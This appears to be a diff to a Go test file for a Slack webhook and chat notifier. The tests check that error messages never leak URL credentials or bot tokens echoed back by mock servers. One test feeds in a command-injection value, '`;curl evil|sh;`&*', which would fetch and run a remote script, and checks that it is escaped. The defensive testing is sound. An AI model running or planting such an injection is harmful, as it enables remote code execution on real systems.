@@ -7,6 +7,7 @@ import (
 	"encoding/json"
 	"errors"
 	"fmt"
+	"html"
 	"io"
 	"net/http"
 	"net/http/httptest"
@@ -158,6 +159,69 @@ func TestNoErrorHasAnAddressInIt(t *testing.T) {
 	}
 }
 
+func TestNoErrorHasAnAddressInItThoughTheTargetRepeatsIt(t *testing.T) {
+	for what, says := range map[string]http.HandlerFunc{
+		"a page": func(w http.ResponseWriter, r *http.Request) {
+			w.WriteHeader(http.StatusNotFound)
+			fmt.Fprintf(w, `{"message":"Route POST:%s not found"}`, r.URL.Path)
+		},
+		"the query, for HTML": func(w http.ResponseWriter, r *http.Request) {
+			w.WriteHeader(http.StatusForbidden)
+			fmt.Fprint(w, "<p>"+strings.ReplaceAll(html.EscapeString(r.RequestURI), "/", "&#x2F;"))
+		},
+		"in JSON": func(w http.ResponseWriter, r *http.Request) {
+			w.WriteHeader(http.StatusNotFound)
+			fmt.Fprint(w, strings.ReplaceAll(r.URL.Path, "/", `\/`))
+		},
+		"in capitals": func(w http.ResponseWriter, r *http.Request) {
+			w.WriteHeader(http.StatusBadRequest)
+			fmt.Fprint(w, strings.ToUpper(r.RequestURI))
+		},
+		"cut off": func(w http.ResponseWriter, r *http.Request) {
+			w.WriteHeader(http.StatusNotFound)
+			fmt.Fprint(w, r.URL.Path[:len(r.URL.Path)-5])
+		},
+		"where a log line ends": func(w http.ResponseWriter, r *http.Request) {
+			w.WriteHeader(http.StatusNotFound)
+			fmt.Fprint(w, strings.Repeat("x", 255), r.URL.Path)
+		},
+		"the user": func(w http.ResponseWriter, r *http.Request) {
+			w.WriteHeader(http.StatusUnauthorized)
+			user, password, _ := r.BasicAuth()
+			fmt.Fprintf(w, "%s:%s", user, password)
+		},
+		"the status": func(w http.ResponseWriter, r *http.Request) {
+			conn, _, _ := w.(http.Hijacker).Hijack()
+			fmt.Fprintf(conn, "HTTP/1.1 404 no %s\r\nContent-Length: 0\r\n\r\n", r.URL.Path)
+			_ = conn.Close()
+		},
+		"no HTTP": func(w http.ResponseWriter, r *http.Request) {
+			conn, _, _ := w.(http.Hijacker).Hijack()
+			fmt.Fprintf(conn, "%s\r\n\r\n", r.URL.Path)
+			_ = conn.Close()
+		},
+	} {
+		address := strings.Replace(serve(t, says), "http://", "http://secretuser:secretword@", 1)
+		_, err := (&post.Incoming{URL: address + "/services/T000%20/B000/SECRET-SECRET?token=secrettoken", Client: client()}).Send(t.Context(), opened())
+		if text := strings.ToLower(failureOf(t, err).Error()); strings.Contains(text, "secr") || strings.Contains(text, "000") || !strings.HasSuffix(text, "…") {
+			t.Errorf("%s: %s", what, text)
+		}
+	}
+}
+
+func TestNoErrorHasATokenInItThoughTheTargetRepeatsIt(t *testing.T) {
+	for _, status := range []int{http.StatusOK, http.StatusForbidden} {
+		url := serve(t, func(w http.ResponseWriter, r *http.Request) {
+			w.WriteHeader(status)
+			answer(w, map[string]any{"ok": false, "error": "nobody knows " + r.Header.Get("Authorization")})
+		})
+		_, err := (&post.Chat{API: url, Token: "xoxb-SECRET", Channel: "C1", Client: client()}).Send(t.Context(), opened())
+		if text := failureOf(t, err).Error(); strings.Contains(text, "xoxb") || !strings.HasSuffix(text, "nobody knows Bearer …") {
+			t.Errorf("%d: %s", status, text)
+		}
+	}
+}
+
 func TestARedirectIsNotFollowed(t *testing.T) {
 	elsewhere := serve(t, func(http.ResponseWriter, *http.Request) { t.Error("the secret went elsewhere") })
 	url := serve(t, func(w http.ResponseWriter, r *http.Request) {
@@ -179,6 +243,14 @@ func TestAnIncomingWebhookOfSlackIsSentEscapedText(t *testing.T) {
 		t.Errorf("text %q", body.Text)
 	}
 	if !strings.Contains(body.Text, "`whence confirm inc-1 deployment:v2`") {
+		t.Errorf("text %q", body.Text)
+	}
+	odd := opened()
+	odd.Ranking.ID = "`;curl evil|sh;`&*"
+	if _, err := (&post.Incoming{URL: url, Client: client()}).Send(t.Context(), odd); err != nil {
+		t.Fatal(err)
+	}
+	if want := "`whence why $'\\140;curl evil|sh;\\140&amp;*'` tells the rest"; !strings.Contains(body.Text, want) {
 		t.Errorf("text %q", body.Text)
 	}
 	long := opened()
